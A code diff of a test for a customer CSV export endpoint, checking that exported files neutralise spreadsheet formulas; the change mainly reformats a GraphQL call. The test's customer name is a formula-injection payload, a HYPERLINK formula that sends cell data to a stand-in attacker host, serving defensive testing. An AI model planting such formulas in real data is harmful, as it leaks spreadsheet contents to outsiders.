@@ -35,15 +35,14 @@ describe('GET /exports/customers.csv', () => {
     expect(rows.slice(1).every((r) => r[8] !== '')).toBe(true);
   });
 
-  it('writes nothing a spreadsheet would run, keeps codes as text, localises values, and re-imports the file unchanged', async () => {
+  it('writes nothing a spreadsheet would run, keeps codes as text, localises values, re-imports as is', async () => {
     // A cashier (or a POS key) can create a customer with any name: the owner's Excel must not run it.
     const name = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
-    const created = await t
-      .as('CASHIER')
-      .ok(
-        `mutation($input: CreateCustomerInput!) { createCustomer(input: $input) { ... on Customer { id phone } ... on UserError { message } } }`,
-        { input: { name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] } },
-      );
+    const created = await t.as('CASHIER').ok(
+      `mutation($input: CreateCustomerInput!) { createCustomer(input: $input) { ... on Customer { id phone }
+           ... on UserError { message } } }`,
+      { input: { name, phone: '13012345678', gender: 'FEMALE', tags: ['-折扣', '@团购'] } },
+    );
     const id = created.createCustomer.id as string;
     expect(id).toBeTruthy();
     const owner = `Bearer ${await t.token('OWNER')}`;
